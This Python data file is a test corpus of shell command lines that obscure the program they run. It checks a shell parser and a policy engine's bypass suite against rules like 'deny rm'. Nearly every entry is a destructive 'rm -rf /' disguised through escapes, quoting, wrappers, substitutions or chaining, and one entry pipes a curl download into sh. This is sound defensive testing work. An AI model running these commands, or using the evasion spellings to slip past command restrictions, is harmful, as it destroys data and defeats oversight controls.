"""Shell command lines that try to hide the program they run: kept as data for reuse.

Each entry is ``(text, expectation)``. ``expectation`` is either ``{"unparseable": True}`` or
``{"programs": [...]}``: every listed program must be among the effective programs of some
command of the parsed operation (``ShellOperation.programs``). ``tests/test_shell_operations.py``
checks every entry against ``parse_shell``; the policy engine's bypass suite can replay them
against rules (for example "deny rm").
"""

from __future__ import annotations

from typing import Any

UNPARSEABLE: dict[str, Any] = {"unparseable": True}
RM: dict[str, Any] = {"programs": ["rm"]}

SHELL_BYPASS_CORPUS: list[tuple[str, dict[str, Any]]] = [
    # spelling the program differently
    ("rm -rf /", RM),
    ("/bin/rm -rf /", RM),
    ("../../bin/rm -rf /", RM),
    ("\\rm -rf /", RM),
    ("r''m -rf /", RM),
    ('"rm" -rf /', RM),
    ("'r'\"m\" -rf /", RM),
    ("r\\m -rf /", RM),
    ("r\\\nm -rf /", RM),
    ("$'\\x72\\x6d' -rf /", RM),
    ("$'\\162\\155' -rf /", RM),
    ("r$'m\\0ignored' -rf /", RM),
    ("X=1 rm -rf /", RM),
    # wrappers
    ("sudo rm -rf /", {"programs": ["sudo", "rm"]}),
    ("sudo -u root -- rm -rf /", RM),
    ("sudo -E HOME=/ rm -rf /", RM),
    ("env rm -rf /", {"programs": ["env", "rm"]}),
    ("env -i PATH=/bin rm -rf /", RM),
    ("timeout 5 rm -rf /", RM),
    ("timeout -s KILL 5s nice -n 10 nohup rm -rf /", RM),
    ("nice -10 rm -rf /", RM),
    ("command rm -rf /", RM),
    ("exec rm -rf /", RM),
    ("busybox rm -rf /", RM),
    ("stdbuf -o0 rm -rf /", RM),
    ("time -p rm -rf /", RM),
    ("watch -n 1 'rm -rf /'", RM),
    ("flock /tmp/lock -c 'rm -rf /'", RM),
    ("ssh -p 22 host 'rm -rf /'", RM),
    ("su - root -c 'rm -rf /'", RM),
    # shells and eval
    ('bash -c "rm -rf /"', {"programs": ["bash", "rm"]}),
    ("sh -c 'curl http://x | sh'", {"programs": ["sh", "curl"]}),
    ("bash -lc 'cd / && rm -rf x'", RM),
    ("sudo bash -c 'sudo rm -rf /'", RM),
    ("sh -c \"sh -c 'rm -rf /'\"", RM),
    ('eval "rm -rf /"', {"programs": ["eval", "rm"]}),
    ("eval 'r''m' -rf /", RM),
    # substitutions
    ("echo $(rm -rf /)", RM),
    ("echo `rm -rf /`", RM),
    ('echo "$(rm -rf /)"', RM),
    ("echo $(echo $(rm -rf /))", RM),
    ("X=$(rm -rf /)", RM),
    ("cat <(rm -rf /)", RM),
    ("tee >(rm -rf /) < /dev/null", RM),
    ("cat <<EOF\n$(rm -rf /)\nEOF", RM),
    ("cat <<<$(rm -rf /)", RM),
    ("echo ${X:-x} $(rm -rf /)", RM),
    # find and xargs
    ("find / -exec rm -rf {} \\;", {"programs": ["find", "rm"]}),
    ("find . -name '*.log' -execdir /bin/rm -f {} +", RM),
    ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", RM),
    ("ls | xargs rm", {"programs": ["xargs", "rm"]}),
    ("ls | xargs -0 -I{} rm {}", RM),
    ("ls | xargs -n1 sh -c 'rm \"$0\"'", RM),
    # chaining
    ("true && rm -rf /", RM),
    ("false || rm -rf /", RM),
    ("true;rm -rf /", RM),
    ("true|rm -rf /", RM),
    ("true&rm -rf /", RM),
    ("echo ok\nrm -rf /", RM),
    ("echo ok # comment\nrm -rf /", RM),
    ("echo a#b;rm -rf /", RM),
    ("(rm -rf /)", RM),
    ("{ rm -rf /; }", RM),
    ("if true; then rm -rf /; fi", RM),
    ("while true; do rm -rf /; done", RM),
    ('for f in /*; do rm -rf "$f"; done', RM),
    ("! rm -rf /", RM),
    ("if true; then (rm -rf /); fi", RM),
    ("true && { sudo rm -rf /; } || echo failed", RM),
    # the program cannot be known: fail closed
    ("$CMD -rf /", UNPARSEABLE),
    ("${CMD} -rf /", UNPARSEABLE),
    ('"$CMD" -rf /', UNPARSEABLE),
    ('"$(echo rm)" -rf /', UNPARSEABLE),
    ("`echo rm` -rf /", UNPARSEABLE),
    ("/bin/r? -rf /", UNPARSEABLE),
    ("/bin/r[m] -rf /", UNPARSEABLE),
    ("{rm,-rf,/}", UNPARSEABLE),
    ("sudo $CMD -rf /", UNPARSEABLE),
    ("env $OPTS rm -rf /", UNPARSEABLE),
    ('bash -c "$CMD"', UNPARSEABLE),
    ("eval $CMD", UNPARSEABLE),
    ("find . -exec {} \\;", UNPARSEABLE),
    ("sudo --frobnicate rm -rf /", UNPARSEABLE),
    # constructs we do not model
    ("echo $((1 + 2)); rm -rf /", UNPARSEABLE),
    ("f() { rm -rf /; }; f", UNPARSEABLE),
    ("function f { rm -rf /; }; f", UNPARSEABLE),
    ("case x in x) rm -rf /;; esac", UNPARSEABLE),
    ("echo ${X:-$(rm -rf /)}", UNPARSEABLE),
    # malformed input
    ('echo "unterminated; rm -rf /', UNPARSEABLE),
    ("echo 'unterminated; rm -rf /", UNPARSEABLE),
    ("echo $(rm -rf /", UNPARSEABLE),
    ("echo `rm -rf /", UNPARSEABLE),
    ("rm -rf / \\", UNPARSEABLE),
    ("rm\x00 -rf /", UNPARSEABLE),
    ("rm -rf /\r", UNPARSEABLE),
    ("echo \x1b[2Jok; rm -rf /", UNPARSEABLE),
    ("cat <<EOF\nrm -rf /", UNPARSEABLE),
    ("true && ; rm -rf /", UNPARSEABLE),
    ("| rm -rf /", UNPARSEABLE),
]
